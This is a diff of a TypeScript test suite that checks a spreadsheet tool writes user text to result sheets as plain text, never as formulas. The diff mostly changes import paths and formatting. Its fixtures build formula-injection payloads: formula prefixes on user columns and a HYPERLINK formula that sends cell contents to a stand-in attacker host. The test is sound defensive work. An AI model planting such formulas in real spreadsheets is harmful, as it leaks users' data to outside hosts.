@@ -3,16 +3,16 @@
  * text, never as a formula, in the .xlsx writer (inline strings, no <f>) and in the Excel host
  * (a leading apostrophe, which the fake Excel honours as Excel does), whatever it starts with.
  */
-import type { Cell } from "../../src/core/grid";
-import { RESULT_SHEETS } from "../../src/core/render/labels";
+import type { Cell } from "../../src/core/model/grid";
+import { RESULT_SHEETS } from "../../src/core/text/labels";
 import { computeInHost } from "../../src/host/computeInHost";
 import { toExcelValue } from "../../src/host/excel/cellValues";
 import { ExcelHost } from "../../src/host/excel/excelHost";
-import { FakeWorkbook, typedAsExcel } from "../../src/host/excel/fakeExcel";
-import { readWorkbookPart } from "../../src/host/file/workbookPart";
+import { FakeWorkbook, typedAsExcel } from "../helpers/fakeExcel";
+import { readWorkbookPart } from "../../src/host/file/parts/workbookPart";
 import { createWorkbook } from "../../src/host/file/writeWorkbook";
-import { ZipPackage } from "../../src/host/file/zipPackage";
-import { XlsxFileHost } from "../../src/host/xlsxFileHost";
+import { ZipPackage } from "../../src/host/file/zip/zipPackage";
+import { XlsxFileHost } from "../../src/host/file/xlsxFileHost";
 import { sampleWorkbook } from "../../src/sample/sampleWorkbook";
 import { day } from "../helpers/records";
 
@@ -20,9 +20,25 @@ const today = day("2026-11-01");
 /** What spreadsheet programs read as the start of a formula, or strip before one. */
 const PREFIXES = ["=", "+", "-", "@", "\t=", "\r="];
 /** User text columns: names, descriptions, IDs, offices, campaigns (joins stay intact: every sheet maps alike). */
-const POISONED = ["Office", "Campaign", "Control ID", "Requirement", "Owner", "Description", "Name", "Title", "Lead auditor", "Project ID", "Finding ID", "Service group", "Mitigation", "Reviewer"];
+const POISONED = [
+  "Office",
+  "Campaign",
+  "Control ID",
+  "Requirement",
+  "Owner",
+  "Description",
+  "Name",
+  "Title",
+  "Lead auditor",
+  "Project ID",
+  "Finding ID",
+  "Service group",
+  "Mitigation",
+  "Reviewer",
+];
 
-const poison = (column: string, value: string): string => `${PREFIXES[POISONED.indexOf(column) % PREFIXES.length]}${value}`;
+const poison = (column: string, value: string): string =>
+  `${PREFIXES[POISONED.indexOf(column) % PREFIXES.length]}${value}`;
 
 /** The sample with every user text column prefixed, the organisation a HYPERLINK formula, and a status quoting a formula. */
 function hostileSheets(): { name: string; rows: Cell[][] }[] {
@@ -31,7 +47,8 @@ function hostileSheets(): { name: string; rows: Cell[][] }[] {
     const rows = sheet.rows.map((row, r) =>
       row.map((cell, c) => {
         if (r === 0 || typeof cell !== "string") return cell;
-        if (sheet.name === "Settings" && row[0] === "Organization" && c === 1) return '=HYPERLINK("https://evil.example/?"&A1,"Click")';
+        if (sheet.name === "Settings" && row[0] === "Organization" && c === 1)
+          return '=HYPERLINK("https://evil.example/?"&A1,"Click")';
         if (sheet.name === "Controls" && r === 1 && header[c] === "Status") return "=1+1";
         return POISONED.includes(header[c]) ? poison(header[c], cell) : cell;
       }),
@@ -58,7 +75,12 @@ describe("user text written to result sheets stays text", () => {
         const text = /<t[^>]*>([^<]*)<\/t>/.exec(cell[3] ?? "")?.[1];
         if (text === undefined) continue;
         expect(cell[2]).toContain('t="inlineStr"');
-        const decoded = text.replace(/_x000D_/g, "\r").replace(/&amp;/g, "&").replace(/&quot;/g, '"').replace(/&lt;/g, "<").replace(/&gt;/g, ">");
+        const decoded = text
+          .replace(/_x000D_/g, "\r")
+          .replace(/&amp;/g, "&")
+          .replace(/&quot;/g, '"')
+          .replace(/&lt;/g, "<")
+          .replace(/&gt;/g, ">");
         if (isHostile(decoded)) written.add(`${sheet.name}!${decoded}`);
       }
     }
@@ -74,7 +96,11 @@ describe("user text written to result sheets stays text", () => {
   it("Excel host: every string is written with Excel's text prefix, so nothing becomes a formula or a number", async () => {
     const book = new FakeWorkbook();
     // Typed into Excel as text (with the apostrophe), as the fake's typing rules require.
-    for (const sheet of hostileSheets()) book.addSheet(sheet.name, sheet.rows.map((row) => row.map(toExcelValue)));
+    for (const sheet of hostileSheets())
+      book.addSheet(
+        sheet.name,
+        sheet.rows.map((row) => row.map(toExcelValue)),
+      );
     await computeInHost(new ExcelHost(book.context), { today });
     const texts: string[] = [];
     for (const sheet of book.sheets.filter((s) => resultSheetNames.includes(s.name))) {
